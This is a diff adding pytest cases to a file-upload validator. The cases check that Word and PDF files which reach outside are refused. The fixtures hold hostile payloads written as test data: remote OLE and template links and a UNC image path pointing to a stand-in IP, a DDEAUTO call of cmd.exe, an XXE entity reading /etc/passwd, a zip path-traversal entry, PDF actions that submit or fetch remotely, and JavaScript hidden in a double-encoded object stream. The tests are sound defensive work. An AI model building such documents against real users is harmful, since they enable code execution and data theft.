@@ -1,6 +1,7 @@
 """The content decides what a file is; the name must agree; nothing that can run comes in."""
 
 import io
+import zlib
 
 import pytest
 
@@ -164,3 +165,52 @@ def test_no_cut_makes_the_checks_fall_over(name: str) -> None:
             check(content[:length], name)
         except FileRefused:
             continue
+
+
+RELATION = b'<Relationships><Relationship Id="r1" Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
+HIDDEN_IN_OFFICE = {
+    "an object fetched": {"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"http://203.0.113.1/x")},
+    "a picture fetched": {"word/_rels/document.xml.rels": RELATION % (b"image", b"\\\\203.0.113.1\\x.png")},
+    "a template fetched": {
+        "word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"http://203.0.113.1/x")
+    },
+    "an object inside": {"word/embeddings/oleObject1.bin": b"x"},
+    "a call of a program": {
+        "word/document.xml": b"<w:instrText xml:space='preserve'> DDEAUTO c:\\cmd.exe </w:instrText>"
+    },
+    "an external definition": {
+        "word/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
+    },
+    "the same in other letters": {"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")},
+    "an entry outside": {"../../outside.xml": b"<x/>"},
+}
+
+
+@pytest.mark.parametrize("what", HIDDEN_IN_OFFICE)
+def test_office_files_that_reach_outside_are_refused(what: str) -> None:
+    assert refusal(make.docx(HIDDEN_IN_OFFICE[what]), "申请.docx").code == "file_dangerous"
+
+
+def test_a_link_to_click_and_words_about_dde_may_stay() -> None:
+    content = {
+        "word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"http://203.0.113.1/x"),
+        "word/document.xml": "<w:t>DDE 是一种旧的技术</w:t>".encode(),
+    }
+    assert check(make.docx(content), "申请.docx") == "docx"
+
+
+@pytest.mark.parametrize(
+    "action", [b"SubmitForm/F(http://203.0.113.1/)", b"GoToR/F(\\\\203.0.113.1\\x)", b"ImportData/F(x)"]
+)
+def test_a_pdf_that_sends_or_fetches_is_refused(action: bytes) -> None:
+    assert refusal(make.pdf(b"9 0 obj<</S/" + action + b">>endobj\n"), "材料.pdf").code == "file_dangerous"
+
+
+def test_a_script_in_an_object_stream_packed_twice_is_refused() -> None:
+    hidden = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert(1))>>").hex().encode() + b">"
+    for named in (
+        b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
+        b"/Filter [/ASCIIHexDecode /FlateDecode]/Type/ObjStm",
+    ):
+        body = b"8 0 obj<<" + named + b"/N 1/First 4>>stream\r\n" + hidden + b"\nendstream endobj\n"
+        assert refusal(make.pdf(body), "材料.pdf").code == "file_dangerous"
